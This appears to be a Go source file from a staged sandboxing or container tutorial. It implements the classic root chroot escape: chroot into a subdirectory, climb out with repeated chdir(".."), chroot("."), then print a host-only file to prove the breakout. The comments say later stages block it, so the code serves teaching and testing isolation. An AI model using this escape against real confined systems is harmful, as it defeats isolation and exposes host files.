package main

// The classic way out of a chroot, kept in every stage: stage 01 shows that
// it works, the later stages that it no longer does.

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// escape breaks out of a chroot, as root: chroot into a subdirectory (so
// the current directory is now *outside* the root), walk up with
// chdir("..") past where the old root was, and chroot(".") at the top.
// It proves the escape by printing a file that exists only on the host.
// It returns its exit status, so that its deferred clean-up always runs.
func escape(args []string) int {
	if len(args) != 1 {
		fail(2, usage)
	}
	hostFile := args[0]
	if _, err := os.Stat(hostFile); err == nil {
		fmt.Printf("note: %s is already visible; not inside a chroot?\n", hostFile)
	}

	// Keep a handle on the chroot's own "/" so the helper directory can be
	// removed afterwards: once out, "/.escape" would name a host path.
	oldRoot, err := unix.Open("/", unix.O_DIRECTORY|unix.O_RDONLY, 0)
	if err != nil {
		return escapeFailed("open /: %v", err)
	}
	defer unix.Unlinkat(oldRoot, ".escape", unix.AT_REMOVEDIR)

	// mkdir /.escape && chroot /.escape — the root moves down, cwd stays up.
	_ = os.Mkdir("/.escape", 0o700)
	if err := unix.Chroot("/.escape"); err != nil {
		return escapeFailed("chroot /.escape: %v", err)
	}

	// cd .. (many times) — the kernel stops ".." only at the process's
	// root, and our cwd is no longer beneath it, so we climb to the real /.
	for i := 0; i < 256; i++ {
		if err := unix.Chdir(".."); err != nil {
			return escapeFailed("chdir ..: %v", err)
		}
	}
	// chroot . — make the host's real / our root again.
	if err := unix.Chroot("."); err != nil {
		return escapeFailed("chroot .: %v", err)
	}

	secret, err := os.ReadFile(hostFile)
	if err != nil {
		return escapeFailed("cannot read %s: %v", hostFile, err)
	}
	fmt.Printf("escaped! %s on the host says: %s", hostFile, secret)
	return 0
}

func escapeFailed(format string, args ...any) int {
	fmt.Fprintf(os.Stderr, "escape failed: "+format+"\n", args...)
	return 1
}
